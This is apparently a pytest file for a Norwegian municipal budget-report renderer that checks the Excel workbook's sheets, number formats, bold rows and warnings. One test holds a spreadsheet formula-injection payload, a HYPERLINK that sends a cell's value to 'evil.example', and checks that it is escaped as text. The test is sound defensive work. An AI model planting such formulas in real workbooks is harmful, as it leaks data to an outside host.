"""The workbook, read back with openpyxl: a sheet per table, numbers as numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tertial.core.document import StatusTableBlock
from tertial.renderers.xlsx import AMOUNT, PERCENT, render_xlsx


def book(doc):
    return load_workbook(io.BytesIO(render_xlsx(doc)))


def header_row(ws) -> int:
    return next(r for r in range(1, 6) if ws.cell(row=r, column=1).value in ("Ansvar", "Post", "Enhet", "Måned"))


def test_one_sheet_per_table_after_the_text(report):
    assert book(report).sheetnames == [
        "Rapport",
        "Status",
        "Avvik per enhet",
        "Regnskap per måned",
        "Sentrale poster",
        "Kommentarer",
    ]


def test_status_figures_are_numbers_in_exact_kroner_with_norwegian_formats(report):
    table = next(b for b in report.blocks if isinstance(b, StatusTableBlock)).table
    ws = book(report)["Status"]
    last = ws[ws.max_row]
    assert last[0].value == "Totalt Testvik kommune"
    assert all(isinstance(c.value, int | float) for c in (last[1], last[2], last[3], last[4], last[5]))
    assert Decimal(str(last[2].value)) == Decimal(table.total.budget) / 100
    assert round(last[3].value, 6) == round(float(table.total.usage_percent) / 100, 6)
    assert [last[i].number_format for i in range(1, 6)] == [AMOUNT, AMOUNT, PERCENT, AMOUNT, AMOUNT]
    assert AMOUNT == "#,##0;[Red]-#,##0" and PERCENT == "0.0 %"
    assert ws.max_row - header_row(ws) == len(table.rows)


def test_subtotal_and_total_rows_are_bold_unit_rows_are_not(report):
    ws = book(report)["Status"]
    for row in ws.iter_rows(min_row=header_row(ws) + 1):
        assert row[0].font.b == (not row[0].value[0].isdigit()), row[0].value


def test_central_items_end_with_the_net_prognosis(report):
    ws = book(report)["Sentrale poster"]
    assert ws.cell(row=ws.max_row, column=1).value == "Netto prognose (avvik)"
    assert ws.cell(row=ws.max_row, column=3).value == 3_000_000


def test_chart_values_are_tables_too(report):
    ws = book(report)["Regnskap per måned"]
    first = header_row(ws) + 1
    assert [ws.cell(row=r, column=1).value for r in range(first, first + 12)][:3] == ["jan", "feb", "mar"]
    assert ws.cell(row=first + 3, column=2).value is None  # no actuals after the period
    assert isinstance(ws.cell(row=first + 11, column=3).value, int | float)


def test_a_forced_report_warns_on_every_sheet(forced_report):
    wb = book(forced_report)
    assert wb["Rapport"]["A5"].value.startswith("Advarsel: rapporten er laget selv om kontrollen fant 1 avvik")
    for ws in wb.worksheets[1:]:
        assert ws["A2"].value.startswith("Advarsel:"), ws.title


def test_an_unknown_block_is_refused(report):
    from dataclasses import replace

    with pytest.raises(TypeError, match="Ukjent blokk i rapporten: object"):
        render_xlsx(replace(report, blocks=(*report.blocks, object())))


def test_sheet_names_follow_excels_rules_when_captions_repeat_or_hold_forbidden_characters(report):
    from dataclasses import replace

    from tertial.core.document import Figure, FigureTable, FigureTableRow

    def table(caption: str) -> FigureTable:
        return FigureTable(caption, "Linje", ("Beløp",), (FigureTableRow("Sum", (Figure.thousands(100_000),)),))

    long = "Netto driftsramme per rammeområde pr. 30.04.2024"
    doc = replace(report, blocks=(table(long), table(long), table("Lån: fast/flytende [andel]?")))
    names = book(doc).sheetnames[1:]
    assert names == [
        "Netto driftsramme per rammeområ",
        "Netto driftsramme per ramme (2)",
        "Lån- fast-flytende -andel--",
    ]
    assert all(len(n) <= 31 for n in names)


def test_a_comment_holding_a_formula_is_text_not_a_live_formula(report):
    """Issue 22: a unit leader's comment became a live HYPERLINK formula in the workbook."""
    from dataclasses import replace

    from tertial.core.comments import UnitComment
    from tertial.core.document import CommentsBlock

    evil = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
    block = next(b for b in report.blocks if isinstance(b, CommentsBlock))
    sector = block.sectors[0]
    unit = replace(sector.units[0], comment=UnitComment(ansvar=sector.units[0].code, cause=evil, consequence="@SUM(1)"))
    doc = replace(
        report,
        blocks=tuple(
            replace(b, sectors=(replace(sector, units=(unit, *sector.units[1:])), *b.sectors[1:])) if b is block else b
            for b in report.blocks
        ),
    )
    wb = book(doc)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + evil in texts and "'@SUM(1)" in texts
    status = wb["Status"]
    negative = [c.value for row in status.iter_rows() for c in row if isinstance(c.value, int | float) and c.value < 0]
    assert negative  # an overspending unit's deviation stays a (negative) number
